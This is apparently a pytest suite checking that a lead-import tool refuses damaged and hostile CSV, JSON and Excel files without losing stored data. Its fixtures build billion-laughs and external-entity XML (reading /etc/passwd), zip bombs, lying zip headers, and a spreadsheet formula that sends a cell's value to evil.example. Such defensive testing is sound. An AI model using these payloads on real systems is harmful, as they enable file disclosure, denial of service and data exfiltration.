"""Bad and hostile input files get a clear error, and nothing already in the database is lost."""

from __future__ import annotations

import json
import random
import time
import tracemalloc
import zipfile

import openpyxl
import pytest

from leadinbox.core import xlsx_reader
from leadinbox.store.importing.entry import import_path
from leadinbox.store.timeline import original_row
from tests.store.helpers import run_import, snapshot

HEADER = "Email,Name,Call to action,Offer name,Created date,Notes"
ROW = "ann{0}@x.example,Ann {0},Contact me,Offer A,2026-10-01,note {0}"


@pytest.fixture
def loaded(db, samples):
    """A database that already holds the Partner Center sample, and a snapshot of it."""
    run_import(db, samples / "partner-center-leads-export.csv")
    return db, snapshot(db)


def refuse(loaded, path):
    db, before = loaded
    result = import_path(db, path)
    assert result.status == "refused", result
    assert snapshot(db) == before
    return result.error


def csv_file(tmp_path, text, name="leads.csv"):
    path = tmp_path / name
    path.write_bytes(text.encode("utf-8"))
    return path


def workbook(path, rows=(("Email", "Name", "Call to action", "Offer name", "Created date"),
                         ("ann@x.example", "Ann", "Contact me", "Offer A", "2026-10-01"))):
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(list(row))
    book.save(path)
    return path


def rewrite_part(src, dst, name, data: bytes):
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
        assert name in zin.namelist()
        for item in zin.infolist():
            zout.writestr(item, data if item.filename == name else zin.read(item.filename))
    return dst


# --- not lead files at all ---------------------------------------------------------------------------------


def test_empty_file(loaded, tmp_path):
    assert "empty" in refuse(loaded, csv_file(tmp_path, ""))


def test_header_only_is_nothing_to_import(loaded, tmp_path):
    db, before = loaded
    result = import_path(db, csv_file(tmp_path, HEADER + "\r\n"))
    assert (result.status, result.error, result.rows) == ("nothing to import", None, 0)
    assert result.skipped_rows == []
    assert snapshot(db) == before


def test_random_bytes(loaded, tmp_path):
    path = tmp_path / "random.csv"
    path.write_bytes(b"x" + random.Random(7).randbytes(64 * 1024))   # an 'x' so it does not pass as JSON/zip
    assert "binary file" in refuse(loaded, path)


def test_png_named_csv(loaded, tmp_path):
    path = tmp_path / "photo.csv"
    signature = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x01\x00\x00\x00\x01\x00\x08\x06\x00\x00\x00"
    path.write_bytes(signature + random.Random(3).randbytes(4096))
    assert "binary file" in refuse(loaded, path)


def test_old_binary_xls(loaded, tmp_path):
    path = tmp_path / "old.xls"
    path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(8192))
    error = refuse(loaded, path)
    assert ".xls" in error and "save it as .xlsx or CSV" in error


def test_zip_that_is_not_a_workbook(loaded, tmp_path):
    path = tmp_path / "archive.xlsx"
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("leads.csv", HEADER + "\n" + ROW.format(1) + "\n")
    assert "zip archive, but not an Excel workbook" in refuse(loaded, path)


def test_truncated_xlsx(loaded, tmp_path):
    data = workbook(tmp_path / "ok.xlsx").read_bytes()
    path = tmp_path / "cut.xlsx"
    path.write_bytes(data[: len(data) // 2])
    assert "damaged or cut off" in refuse(loaded, path)


# --- CSV that is broken ------------------------------------------------------------------------------------


def test_unclosed_quote_at_the_end_is_refused_with_its_row(loaded, tmp_path):
    # Row 3 opens a quote that never closes: the rows after it must not silently vanish into one cell.
    text = HEADER + "\n" + ROW.format(1) + "\n" + 'bob@x.example,"Bob,Contact me,Offer A,2026-10-01,x\n'
    text += "\n".join(ROW.format(i) for i in range(4, 9)) + "\n"
    error = refuse(loaded, csv_file(tmp_path, text))
    assert error.startswith("row 3") and "quote" in error


def test_unclosed_quote_in_a_big_file_names_row_and_column(loaded, tmp_path):
    # Here the open quote would swallow more than a cell may hold: it is found when the cell grows too long.
    lines = [HEADER, ROW.format(1), 'bob@x.example,Bob,Contact me,"Offer A,2026-10-01,x']
    lines += [ROW.format(i) for i in range(4, 30_000)]
    error = refuse(loaded, csv_file(tmp_path, "\n".join(lines) + "\n"))
    assert error.startswith("row 3, column “Offer name”") and "quote" in error


def fifty_mb_field(tmp_path, quoted: bool):
    path = tmp_path / "long.csv"
    chunk = "y" * (1 << 20)
    with open(path, "w", encoding="utf-8", newline="") as out:
        out.write(HEADER + "\r\n" + ROW.format(1) + "\r\n")
        out.write("bob@x.example,Bob,Contact me,Offer A,2026-10-01,")
        out.write('"' if quoted else "")
        for _ in range(50):
            out.write(chunk)
        out.write('"' if quoted else "")
        out.write("\r\n" + ROW.format(4) + "\r\n")
    return path


@pytest.mark.parametrize("quoted", [True, False])
def test_fifty_megabyte_field_is_refused_quickly_in_little_memory(loaded, tmp_path, quoted):
    path = fifty_mb_field(tmp_path, quoted)
    tracemalloc.start()
    try:
        started = time.perf_counter()
        error = refuse(loaded, path)
        elapsed = time.perf_counter() - started
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert error.startswith("row 3, column “Notes”") and "longer than" in error, error
    assert elapsed < 3 and peak < 20 * 1024**2, (elapsed, peak)


def test_mixed_encodings_past_the_sniffed_sample_name_the_row(loaded, tmp_path):
    # UTF-8 throughout (with accents, so it is sniffed as UTF-8), then one cp1252 "é" far past the sample.
    rows = [HEADER] + [ROW.format(i).replace("Ann", "Zoë") for i in range(2, 6000)]
    rows[4999] = rows[4999].replace("note", "caf\udce9")     # row 5000, Notes column: a lone 0xE9 byte
    path = tmp_path / "mixed.csv"
    path.write_bytes("\n".join(rows).encode("utf-8", "surrogateescape") + b"\n")
    assert path.stat().st_size > 300 * 1024
    error = refuse(loaded, path)
    assert error.startswith("row 5000, column “Notes”") and "encoding" in error, error


def test_broken_utf16_past_the_sample_names_the_row(loaded, tmp_path):
    # In UTF-16 a bad code unit includes a byte under 0x80, which errors="surrogateescape" cannot keep.
    rows = [HEADER.replace(",", "\t")] + [ROW.format(i).replace(",", "\t") for i in range(2, 4000)]
    body = b"\xff\xfe" + "\r\n".join(rows).encode("utf-16-le") + b"\r\x00\n\x00"
    bad = "\r\n".join(rows[:3499]).encode("utf-16-le") + "\r\n".encode("utf-16-le")  # up to row 3500
    cut = 2 + len(bad) + len("ann3500@x.example\tAnn 3500\tContact me\tOffer A\t2026-10-01\tno") * 2
    path = tmp_path / "unicode.txt"
    path.write_bytes(body[:cut] + b"\x00\xdc" + body[cut + 2:])       # a lone low surrogate in "note"
    assert cut > 256 * 1024
    error = refuse(loaded, path)
    assert error.startswith("row 3500, column “Notes”") and "encoding" in error, error


def test_text_after_a_closing_quote_names_the_cell(loaded, tmp_path):
    text = HEADER + "\n" + ROW.format(1) + "\n" + 'bob@x.example,"Bob" Ray,Contact me,Offer A,2026-10-01,x\n'
    error = refuse(loaded, csv_file(tmp_path, text))
    assert error.startswith("row 3, column “Name”") and "closing quote" in error, error


def test_json_nested_too_deeply(loaded, tmp_path):
    path = tmp_path / "deep.json"
    path.write_text("[" * 100_000 + "]" * 100_000, encoding="utf-8")
    assert "nested" in refuse(loaded, path)


def test_json_cut_off(loaded, tmp_path):
    path = tmp_path / "cut.json"
    path.write_text('[\n{"UserDetails": {"Email": "a@x.example"}, "ActionCode": "PLT"},\n'
                    '{"UserDetails": {"Em', encoding="utf-8")
    assert "cut off at line 3, column 18 (unterminated string)" in refuse(loaded, path)


def test_json_lines_row_cut_off(loaded, tmp_path):
    path = tmp_path / "cut.jsonl"
    path.write_text('{"UserDetails": {"Email": "a@x.example"}, "ActionCode": "PLT"}\n{"UserDetails": {"Em\n',
                    encoding="utf-8")
    error = refuse(loaded, path)
    assert error.startswith("row 2:") and "cut off" in error


def test_row_with_a_hundred_thousand_cells(loaded, tmp_path):
    text = HEADER + "\n" + ROW.format(1) + "\n" + "a," * 100_000 + "\n"
    started = time.perf_counter()
    error = refuse(loaded, csv_file(tmp_path, text))
    assert error.startswith("row 3") and "cells" in error and time.perf_counter() - started < 2


# --- hostile workbooks -------------------------------------------------------------------------------------

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
LAUGHS = ('<?xml version="1.0"?>\n<!DOCTYPE lolz [\n<!ENTITY lol "lol">\n'
          + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
                    for i in range(1, 10))
          + ']>\n')
XXE = '<?xml version="1.0"?>\n<!DOCTYPE sst [<!ENTITY lol9 SYSTEM "file:///etc/passwd">]>\n'


def shared_strings_workbook(tmp_path, *, part="xl/sharedStrings.xml", prolog="", offer="Offer A"):
    """A workbook whose cells are shared strings, as Excel writes them (openpyxl writes inline strings)."""
    rows = [["Email", "Name", "Call to action", "Offer name", "Created date"],
            ["ann@x.example", "Ann", "Contact me", offer, "2026-10-01"]]
    strings = [cell for row in rows for cell in row]
    cells = "".join(f'<row r="{r + 1}">' + "".join(f'<c r="{"ABCDE"[c]}{r + 1}" t="s"><v>{r * 5 + c}</v></c>'
                                                   for c in range(5)) + "</row>" for r in range(2))
    sheet = f'<worksheet xmlns="{MAIN}"><sheetData>{cells}</sheetData></worksheet>'
    sst = prolog + f'<sst xmlns="{MAIN}">' + "".join(f"<si><t>{s}</t></si>" for s in strings) + "</sst>"
    base = workbook(tmp_path / "inline.xlsx")
    path = tmp_path / "shared.xlsx"
    with zipfile.ZipFile(base) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            data = zin.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                data = sheet.encode()
            elif item.filename == "xl/_rels/workbook.xml.rels":
                data = data.replace(b"</Relationships>", (
                    '<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                    f'sharedStrings" Target="/{part}" Id="rId99" /></Relationships>').encode())
            elif item.filename == "[Content_Types].xml":
                data = data.replace(b"</Types>", (
                    f'<Override PartName="/{part}" ContentType="application/'
                    'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml" /></Types>').encode())
            zout.writestr(item, data)
        zout.writestr(part, sst.encode())
    return path


@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/SharedStrings.XML"])
def test_shared_strings_workbook_is_read(db, tmp_path, part):
    # The builder below makes a workbook that is read through its shared strings (any part name case).
    result = import_path(db, shared_strings_workbook(tmp_path, part=part))
    assert (result.status, result.new_leads) == ("imported", 1)
    assert db.execute("SELECT email, offer_name FROM leads").fetchall() == [("ann@x.example", "Offer A")]


@pytest.mark.parametrize("part", ["xl/sharedStrings.xml", "xl/SharedStrings.XML"])
@pytest.mark.parametrize("prolog", [LAUGHS, XXE], ids=["billion-laughs", "external-entity"])
def test_entity_declarations_in_shared_strings(loaded, tmp_path, part, prolog):
    path = shared_strings_workbook(tmp_path, part=part, prolog=prolog, offer="&lol9;")
    error = refuse(loaded, path)
    assert part in error and "entities" in error


def test_billion_laughs_in_a_worksheet(loaded, tmp_path):
    body = (f'<worksheet xmlns="{MAIN}"><sheetData><row r="1"><c r="A1" t="inlineStr">'
            '<is><t>&lol9;</t></is></c></row></sheetData></worksheet>')
    src = workbook(tmp_path / "ok.xlsx")
    path = rewrite_part(src, tmp_path / "laughs.xlsx", "xl/worksheets/sheet1.xml", (LAUGHS + body).encode())
    error = refuse(loaded, path)
    assert "xl/worksheets/sheet1.xml" in error and "entities" in error


def zip_bomb(tmp_path, megabytes: int):
    """A real workbook plus a worksheet of zeros that inflates to `megabytes` MiB (a few MiB on disk)."""
    src = workbook(tmp_path / "ok.xlsx")
    path = tmp_path / "bomb.xlsx"
    chunk = bytes(1 << 20)
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED,
                                                       compresslevel=1) as zout:
        for item in zin.infolist():
            zout.writestr(item, zin.read(item.filename))
        with zout.open("xl/worksheets/sheet2.xml", "w", force_zip64=True) as part:
            for _ in range(megabytes):
                part.write(chunk)
    return path


@pytest.mark.parametrize("megabytes", [1025, 200])   # over the size limit; under it but at a bomb's ratio
def test_zip_bomb_is_refused_before_unpacking(loaded, tmp_path, monkeypatch, megabytes):
    path = zip_bomb(tmp_path, megabytes)
    assert path.stat().st_size < 8 * 1024**2

    def must_not_open(*_args, **_kwargs):
        raise AssertionError("the workbook was opened")

    monkeypatch.setattr(xlsx_reader.python_calamine.CalamineWorkbook, "from_path", must_not_open)
    started = time.perf_counter()
    error = refuse(loaded, path)
    assert "xl/worksheets/sheet2.xml" in error and "zip bomb" in error and f"{megabytes:,} MiB" in error
    assert time.perf_counter() - started < 1


def test_part_larger_than_it_declares(loaded, tmp_path):
    # A bomb may lie in the zip directory about its unpacked size; reading stops at the declared size, and
    # the part then fails its checksum.
    src = workbook(tmp_path / "ok.xlsx")
    with zipfile.ZipFile(src) as zin:
        real = zin.read("xl/worksheets/sheet1.xml")
    head, tail = real.split(b"<sheetData>")
    path = tmp_path / "liar.xlsx"
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for item in zin.infolist():
            if item.filename != "xl/worksheets/sheet1.xml":
                zout.writestr(item, zin.read(item.filename))
        with zout.open("xl/worksheets/sheet1.xml", "w") as part:
            part.write(head + b"<sheetData>")
            for _ in range(64):
                part.write(b" " * (1 << 20))
            part.write(tail)
    data = bytearray(path.read_bytes())
    name = b"xl/worksheets/sheet1.xml"
    # (signature, offset of the uncompressed size, of the name length, of the name) in each kind of header
    for signature, size_at, name_len_at, name_at in ((b"PK\x03\x04", 22, 26, 30),
                                                     (b"PK\x01\x02", 24, 28, 46)):
        at = data.find(signature)
        while at >= 0:   # set the uncompressed size in the local header and the central directory
            length = int.from_bytes(data[at + name_len_at: at + name_len_at + 2], "little")
            if data[at + name_at: at + name_at + length] == name:
                data[at + size_at: at + size_at + 4] = len(real).to_bytes(4, "little")
            at = data.find(signature, at + 4)
    path.write_bytes(bytes(data))
    with zipfile.ZipFile(path) as check:
        assert check.getinfo("xl/worksheets/sheet1.xml").file_size == len(real)
    started = time.perf_counter()
    error = refuse(loaded, path)
    assert "xl/worksheets/sheet1.xml is damaged" in error and time.perf_counter() - started < 1


# --- files that import, with the bad parts handled ---------------------------------------------------------


def test_nul_bytes_are_stripped_and_rows_imported(loaded, tmp_path):
    db, _before = loaded
    text = (HEADER + "\r\n" + "ann\x00@x.example,Ann\x00 Lee,Contact me,Offer\x00 A,2026-10-01,\x00\r\n"
            + ROW.format(2) + "\r\n")
    path = tmp_path / "nul.csv"
    path.write_bytes(text.encode() + b"\x00" * 4096)      # NUL padding after a crash or a cut download
    result = import_path(db, path)
    assert (result.status, result.rows, result.new_leads, result.skipped_rows) == ("imported", 2, 2, [])
    ann = db.execute("SELECT email, full_name, offer_name FROM leads WHERE row_no = 2 AND batch_id = ?",
                     (result.batch_id,)).fetchone()
    assert ann == ("ann@x.example", "Ann Lee", "Offer A")


def test_rows_with_broken_values_are_kept_flagged_and_reported(loaded, tmp_path):
    db, _before = loaded
    leads = db.execute("SELECT count(*) FROM leads").fetchone()[0]
    text = "\n".join([HEADER, ROW.format(1), "bob@x.example,Bob,Contact me,Offer A,31/31/2026,x",
                      ROW.format(3), "cy@x.example,Cy,Contact me,Offer A,99999999,x",
                      ",,Contact me,Offer A,,"])
    result = import_path(db, csv_file(tmp_path, text + "\n"))
    # Only the row that cannot be tied to a person is skipped; unreadable dates are kept and flagged.
    assert (result.status, result.new_leads) == ("imported", 4)
    assert db.execute("SELECT count(*) FROM leads").fetchone()[0] == leads + 4
    assert [(p.row, p.column) for p in result.skipped_rows] == [(6, "Email")]
    assert [(p.row, p.column) for p in result.warnings] == [(3, "Created date"), (5, "Created date")]
    assert "31/31/2026" in result.warnings[0].reason and "99999999" in result.warnings[1].reason


def test_formula_looking_cells_are_stored_as_plain_text(loaded, tmp_path):
    db, _before = loaded
    name = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    text = ("Email,Name,Phone,Company,Call to action,Offer name,Created date,Notes\r\n"
            f'eve@x.example,"{name.replace(chr(34), chr(34) * 2)}",+1 425 555 0100,-x,Contact me,'
            "=1+1,2026-10-01,@SUM(A1:A9)\r\n")
    result = import_path(db, csv_file(tmp_path, text))
    assert result.status == "imported", result
    stored = db.execute("SELECT full_name, phone, company, offer_name, description, id FROM leads "
                        "WHERE email = 'eve@x.example'").fetchone()
    assert stored[:5] == (name, "+1 425 555 0100", "-x", "=1+1", "@SUM(A1:A9)")
    assert dict(original_row(db, stored[5])["fields"])["Name"] == name


def test_text_named_xlsx_is_refused_as_not_a_workbook(loaded, tmp_path):
    # Not offered as columns to map: the name promised a workbook, and that is what is wrong.
    error = refuse(loaded, csv_file(tmp_path, "this is not a spreadsheet\n", name="leads.xlsx"))
    assert "named .xlsx but is not an Excel workbook" in error


def test_a_real_lead_csv_named_xlsx_still_imports(loaded, tmp_path):
    db, _ = loaded
    rows = "\n".join([HEADER, ROW.format(1)]) + "\n"
    assert import_path(db, csv_file(tmp_path, rows, name="export.xlsx")).new_leads == 1
